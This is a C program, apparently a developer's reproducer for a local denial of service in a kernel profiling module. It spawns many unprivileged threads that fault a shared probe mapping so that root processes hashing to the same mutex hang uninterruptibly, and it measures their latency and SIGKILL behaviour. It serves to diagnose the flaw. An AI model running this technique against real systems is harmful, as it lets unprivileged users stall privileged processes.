// SPDX-License-Identifier: GPL-2.0
/*
 * probe_dos: an unprivileged process (uid 65534) with G threads that fault
 * the seccomp probe in a loop holds the probe mutex its mm hashes to
 * (kmod/probe.c, 64 mutexes shared by every mm) for a walk of its G
 * threads per fault, with up to G faults queued on it: another process
 * (here root's) whose mm hashes to the same mutex waits about G * walk
 * in mutex_lock(), uninterruptibly, for its one probe fault (the shim's
 * question at fork, exit, first sample).
 *
 * usage: probe_dos G VICTIMS SECONDS [times]
 * (times: the attacker's threads loop on times() instead, whose
 * thread_group_cputime() walks the group under RCU as the probe does)
 * prints: the solo fault cost with G threads alive (the walk), and the
 * latency of each victim's single fault without, then with, the attacker;
 * whether a SIGKILLed waiting victim dies promptly.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/times.h>
#include <sys/wait.h>
#include "kpprof.h"

static off_t probe_off;
static size_t probe_len;
static long pagesz;

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static const char *map_probe(void)
{
	int fd = open(KPPROF_DEVICE_PATH, O_RDONLY | O_CLOEXEC);
	void *m;

	if (fd < 0) {
		perror("open");
		exit(2);
	}
	m = mmap(NULL, probe_len, PROT_READ, MAP_SHARED, fd, probe_off);
	if (m == MAP_FAILED) {
		perror("mmap");
		exit(2);
	}
	close(fd);
	return m;
}

static unsigned int ask(const char *m, int i)
{
	return *(const volatile unsigned int *)(m + i * pagesz);
}

static atomic_int go;
static int use_times;	/* the attacker's threads call times() instead (the kernel's own group walk under RCU) */

static void *attacker_thread(void *p)
{
	const char *m = map_probe();	/* its own vma: every read faults */

	(void)p;
	while (!atomic_load(&go))
		usleep(100000);
	for (unsigned int i = 0;; i++) {
		if (use_times)
			times(&(struct tms){0});
		else
			ask(m, i & 1);
	}
	return NULL;
}

static void attacker(int g, int rfd_unused, int wfd)
{
	pthread_attr_t attr;
	pthread_t th;
	const char *m;
	double t0, solo;
	char c = 1;

	(void)rfd_unused;
	if (setgid(65534) || setuid(65534)) {
		perror("setuid");
		exit(2);
	}
	pthread_attr_init(&attr);
	pthread_attr_setstacksize(&attr, 65536);
	for (int i = 1; i < g; i++)
		if (pthread_create(&th, &attr, attacker_thread, NULL)) {
			fprintf(stderr, "attacker: only %d threads\n", i);
			break;
		}
	m = map_probe();
	t0 = now();
	for (int i = 0; i < 200; i++)
		ask(m, i & 1);
	solo = (now() - t0) / 200;
	printf("# attacker uid %d, %d threads: one fault alone %.1f us\n", getuid(), g, solo * 1e6);
	fflush(stdout);
	atomic_store(&go, 1);
	sleep(1);
	if (write(wfd, &c, 1) != 1)
		exit(2);
	attacker_thread(NULL);
}

/* fork @n victims (root), each with a probe mapping and its own mm */
static void victims(int n, const char *label, pid_t killone_after_ms)
{
	int go_pipe[2], res_pipe[2];
	pid_t *pids = calloc(n, sizeof(*pids));
	double *lat = calloc(n, sizeof(*lat));
	int slow = 0, got = 0;
	double max = 0;

	if (pipe(go_pipe) || pipe(res_pipe))
		exit(2);
	for (int i = 0; i < n; i++) {
		pids[i] = fork();
		if (pids[i] == 0) {
			const char *m = map_probe();
			char c;
			double t0, d;

			close(go_pipe[1]);
			if (read(go_pipe[0], &c, 1) != 0)
				_exit(3);
			t0 = now();
			ask(m, 0);
			d = now() - t0;
			if (write(res_pipe[1], &d, sizeof(d)) != sizeof(d))
				_exit(3);
			_exit(0);
		}
	}
	close(go_pipe[0]);
	close(res_pipe[1]);
	close(go_pipe[1]);	/* go */
	if (killone_after_ms) {
		/* the victims still in the kernel after a while: state, and a SIGKILL */
		usleep(killone_after_ms * 1000);
		for (int i = 0; i < n; i++) {
			char path[64], buf[256] = "", wchan[64] = "";
			FILE *f;

			snprintf(path, sizeof(path), "/proc/%d/stat", pids[i]);
			f = fopen(path, "r");
			if (!f)
				continue;
			if (!fgets(buf, sizeof(buf), f))
				buf[0] = 0;
			fclose(f);
			snprintf(path, sizeof(path), "/proc/%d/wchan", pids[i]);
			f = fopen(path, "r");
			if (f) {
				if (!fgets(wchan, sizeof(wchan), f))
					wchan[0] = 0;
				fclose(f);
			}
			char *st = strrchr(buf, ')');
			if (st && st[2] == 'D') {
				double t0 = now();
				int status;

				char stack[2048] = "";
				int sfd;

				snprintf(path, sizeof(path), "/proc/%d/stack", pids[i]);
				sfd = open(path, O_RDONLY);
				if (sfd >= 0) {
					ssize_t k = read(sfd, stack, sizeof(stack) - 1);

					stack[k > 0 ? k : 0] = 0;
					close(sfd);
				}
				printf("# its kernel stack:\n%s", stack);
				kill(pids[i], SIGKILL);
				waitpid(pids[i], &status, 0);
				printf("# victim %d in D (wchan %s) after %d ms: SIGKILL took %.2f s to reap\n",
				       pids[i], wchan, killone_after_ms, now() - t0);
				pids[i] = 0;
				break;
			}
		}
	}
	for (double d; read(res_pipe[0], &d, sizeof(d)) == sizeof(d);) {
		lat[got++] = d;
		if (d > max)
			max = d;
		if (d > 0.1)
			slow++;
	}
	for (int i = 0; i < n; i++)
		if (pids[i])
			waitpid(pids[i], NULL, 0);
	printf("# %s: %d victims answered, %d took > 100 ms, slowest %.3f s; slow ones:", label,
	       got, slow, max);
	for (int i = 0; i < got; i++)
		if (lat[i] > 0.1)
			printf(" %.2f", lat[i]);
	printf("\n");
	fflush(stdout);
	close(res_pipe[0]);
	free(pids);
	free(lat);
}

int main(int argc, char **argv)
{
	int g = argc > 1 ? atoi(argv[1]) : 1000;
	int n = argc > 2 ? atoi(argv[2]) : 128;
	int secs = argc > 3 ? atoi(argv[3]) : 20;

	use_times = argc > 4 && !strcmp(argv[4], "times");
	struct kpprof_info info;
	int fd, p[2];
	pid_t a;
	char c;

	setvbuf(stdout, NULL, _IOLBF, 0);
	pagesz = sysconf(_SC_PAGESIZE);
	fd = open(KPPROF_DEVICE_PATH, O_RDONLY | O_CLOEXEC);
	memset(&info, 0, sizeof(info));
	if (fd < 0 || ioctl(fd, KPPROF_IOC_GET_INFO, &info)) {
		perror("kpprof");
		return 2;
	}
	close(fd);
	probe_off = (off_t)(info.probe_pgoff * info.page_size);
	probe_len = info.probe_map_len;

	victims(n, "baseline (no attacker)", 0);
	if (pipe(p))
		return 2;
	a = fork();
	if (a == 0) {
		close(p[0]);
		attacker(g, -1, p[1]);
	}
	close(p[1]);
	if (read(p[0], &c, 1) != 1)
		return 2;
	victims(n, "with attacker", 2000);
	sleep(secs);	/* the attacker goes on a while */
	kill(a, SIGKILL);
	{
		double t0 = now();

		waitpid(a, NULL, 0);
		printf("# attacker reaped %.2f s after SIGKILL\n", now() - t0);
	}
	return 0;
}
